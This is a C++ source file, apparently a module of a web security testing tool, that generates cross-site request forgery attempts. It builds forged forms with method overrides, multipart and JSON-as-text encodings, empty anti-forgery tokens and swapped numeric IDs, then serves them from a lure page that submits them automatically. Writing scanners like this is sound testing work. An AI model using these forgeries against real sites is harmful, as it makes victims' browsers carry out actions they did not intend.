#include "core/attack/forged_forms.h"

#include <algorithm>

#include "core/attack/own_form.h"

namespace parapet::attack {
namespace {

constexpr char kDigits[] = "0123456789";

std::string first_number(Endpoint const& endpoint) {
    for (Parameter const& each : endpoint.parameters)
        if (is_number(each)) return each.sample;
    return "1";
}

// What stood at this address may have moved to one that only the pages tell. Theirs are the
// attacker's own; a number is put in the place of a number.
void add_moved(std::vector<ForgedForm>& to, Target const& target, Endpoint const& endpoint,
               OwnForm const& own) {
    for (UnknownForm const& each : own.others) {
        ForgedForm form{.action = app_origin(target) + each.action};
        std::string const number = first_number(endpoint);
        std::size_t const at = form.action.find_first_of(kDigits, app_origin(target).size());
        if (at != std::string::npos) {
            std::size_t const end = form.action.find_first_not_of(kDigits, at);
            form.action.replace(at, std::min(end, form.action.size()) - at, number);
        }
        for (http::QueryPair field : each.fields) {
            bool const is_number =
                !field.value.empty() && field.value.find_first_not_of(kDigits) == std::string::npos;
            if (is_number) field.value = number;
            if (is_number || field.value.size() < 16) form.fields.push_back(std::move(field));
        }
        to.push_back(std::move(form));
    }
}

void add_forgeries(std::vector<ForgedForm>& to, Target const& target, Endpoint const& endpoint,
                   OwnForm const& own) {
    std::string action = address_of(target, endpoint);
    auto fields = wanted_fields(endpoint);
    if (endpoint.method != "POST") {
        // Frameworks read the method from a field or from the query.
        action += "?_method=" + endpoint.method;
        fields.push_back({"_method", endpoint.method});
    }
    to.push_back({.action = action, .fields = fields});
    to.push_back({.action = action, .enctype = std::string(kMultipart), .fields = fields});
    to.push_back(json_as_text(action, fields));
    if (endpoint.path.find(':') != std::string::npos) add_moved(to, target, endpoint, own);
    auto with_empty = fields;
    for (http::QueryPair const& token : own.tokens) with_empty.push_back({token.name, ""});
    if (own.tokens.empty()) return;
    to.push_back({.action = action, .fields = with_empty});
    to.push_back(json_as_text(action, with_empty));
}

}  // namespace

std::vector<ForgedForm> forged_forms(Target& target) {
    std::vector<ForgedForm> forgeries;
    for (Endpoint const* each : unsafe_endpoints(target))
        add_forgeries(forgeries, target, *each, look_at_form(target, *each, As::Attacker));
    return forgeries;
}

void victim_submits(Target& target, OwnHost& host, std::vector<ForgedForm> const& forgeries) {
    Lure lure(target, host);
    for (ForgedForm const& each : forgeries) lure.show(submitting(each));
    // Some take a click for the person's own will (Sec-Fetch-User).
    if (!forgeries.empty()) lure.show_to_click(forgeries.front());
    target.note("A page on " + host.name() + " submitted forms to " + target.surface().host +
                " as soon as it was opened.");
}

}  // namespace parapet::attack
